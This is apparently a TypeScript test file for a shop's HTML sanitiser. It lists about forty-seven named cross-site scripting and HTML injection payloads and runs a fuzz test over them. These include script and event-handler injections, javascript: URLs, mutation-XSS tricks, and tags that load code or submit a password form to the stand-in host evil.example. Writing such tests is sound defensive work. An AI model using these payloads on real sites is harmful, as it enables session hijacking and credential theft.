import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { sanitiseHtml } from './sanitise-html.ts'

/** What sanitised HTML may be made of: text without tags, the allowed tags without attributes, and links of the shop. */
const SAFE =
  /^(?:[^<>]|<(?:p|br|strong|em|ul|ol|li) ?\/?>|<\/(?:p|strong|em|ul|ol|li|a)>|<a(?: href="\/(?!\/)[^"<>\s\\]*")?>)*$/

test.each([
  ['paragraphs, emphasis and breaks', '<p>From <strong>today</strong><br />to <em>Sunday</em></p>', undefined],
  ['a list', '<ul><li>one</li><li>two</li></ul>', undefined],
  ['a link of the shop', '<a href="/c/voucher-conditions?site=AT#top">conditions</a>', undefined],
  ['plain text with signs', 'Tea &amp; coffee &lt; 5 €', undefined],
  ['old names of emphasis', '<b>a</b><i>b</i>', '<strong>a</strong><em>b</em>'],
  ['a tag that stays open', '<p>one', '<p>one</p>'],
  ['a heading', '<h1>Sale</h1>', 'Sale'],
  ['classes and styles', '<p class="x" style="position:fixed" id="main">a</p>', '<p>a</p>'],
])('%s', (_what, given, expected = given) => {
  expect(sanitiseHtml(given)).toBe(expected)
})

/** Ways into a page that are known from filters of HTML, each once. */
const ATTACKS: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<ScRiPt src="//evil.example/x.js"></sCrIpT>',
  'a script of nested tags': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script that is never closed': '<script>alert(1)',
  'a style with an address': '<style>@import "//evil.example";</style>',
  'a handler': '<p onclick="alert(1)">x</p>',
  'a handler without quotes': '<p onmouseover=alert(1)>x</p>',
  'a handler behind a slash': '<p/onfocus=alert(1)//autofocus>x</p>',
  'a handler behind a line break': '<p\nonclick\n=\nalert(1)>x</p>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an image in an attribute': '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  'an address of script': '<a href="javascript:alert(1)">x</a>',
  'an address of script in capitals': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'an address of script with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'an address of script behind a control character': '<a href="\u0001javascript:alert(1)">x</a>',
  'an address of script as entities': '<a href="&#106;avascript&colon;alert(1)">x</a>',
  'an address of data': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'an address of another host': '<a href="//evil.example">x</a>',
  'an address of another host by a backslash': '<a href="/\\evil.example">x</a>',
  'an address of no shop behind a slash': '<a href=/!\\<base href="//evil.example">x</a>',
  'an address of another host by a tab': '<a href="/\t/evil.example">x</a>',
  'a whole address': '<a href="https://evil.example/">x</a>',
  'a form': '<form action="//evil.example"><input name=password><button>Log in</button></form>',
  'a button of another form': '<button form="newsletter" formaction="//evil.example">x</button>',
  'a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="//evil.example"></object><embed src="//evil.example">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=//evil.example">',
  'a base': '<base href="//evil.example">',
  'a linked style': '<link rel="stylesheet" href="//evil.example/x.css">',
  'a drawing with script': '<svg onload=alert(1)><script>alert(1)</script></svg>',
  'an animated link of a drawing': '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'a style in a drawing': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'a formula': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'a comment that hides a tag': '<!--><img src=x onerror=alert(1)>-->',
  'a comment in a comment': '<!-- <!-- --> <img src=x onerror=alert(1)> -->',
  'raw text that ends early': '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  'text without script': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'a template': '<template><img src=x onerror=alert(1)></template>',
  'a section of characters': '<![CDATA[<img src=x onerror=alert(1)>]]>',
  'a processing instruction': '<?xml-stylesheet href="javascript:alert(1)"?>',
  'a name that hides a property of the page': '<a id="location" name="cookie" href="/x">x</a>',
  'an island of ours': '<div data-island="newsletter" data-when="load"></div>',
  'a quick-buy button of ours': '<a data-quick-buy="p1001" href="/products/p1001">x</a>',
  'a mark of React': '<p dangerouslysetinnerhtml="x">x</p>',
  'a closing tag of the page': '</div></details></main><h1>Login</h1>',
  'half a tag': '<img src=x onerror=alert(1) ',
  'a tag of angle brackets as entities': '&lt;img src=x onerror=alert(1)&gt;',
}

describe('what could reach beyond its text is taken out', () => {
  test.each(Object.entries(ATTACKS))('%s', (_what, given) => {
    const html = sanitiseHtml(given)
    expect(html).toMatch(SAFE)
    expect(html).not.toMatch(/javascript|evil\.example|data-|\bid=/i)
  })
})

test('HTML of any pieces becomes safe', () => {
  const pieces = [
    '<',
    '>',
    '</',
    '/>',
    '"',
    "'",
    '=',
    '&lt;',
    '<!--',
    '-->',
    '<a href=',
    '/',
    '\\',
    '<svg',
    '<style>',
    'p',
    ' ',
    '\n',
  ]
  const piece = fc.oneof(fc.constantFrom(...pieces, ...Object.values(ATTACKS)), fc.string({ maxLength: 8 }))
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), (parts) => {
      expect(sanitiseHtml(parts.join(''))).toMatch(SAFE)
    }),
    { numRuns: 2000 },
  )
})
